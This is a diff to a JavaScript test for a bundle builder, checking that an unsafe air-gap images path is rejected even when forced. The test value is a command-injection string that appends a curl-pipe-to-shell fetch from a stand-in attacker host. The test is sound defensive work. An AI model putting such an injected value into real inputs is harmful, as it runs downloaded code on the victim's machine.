@@ -61,7 +61,7 @@ describe('buildBundle', () => {
   });
 
   it('refuses a site with an unsafe value even when forced', async () => {
-    const site = variant((s) => Object.assign(s.airGap, { importLocalImages: true, imagesPath: '/opt/x; curl http://evil.example/x|sh #' }));
+    const site = variant((s) => Object.assign(s.airGap, { imageSource: 'archives', imagesPath: '/opt/x; curl http://evil.example/x|sh #' }));
     const result = await buildBundle(site, { format: 'zip', force: true });
     expect(result.ok).toBe(false);
     expect(!result.ok && result.reason).toMatch(/unsafe value.*even when forced[\s\S]*airGap\.imagesPath/);
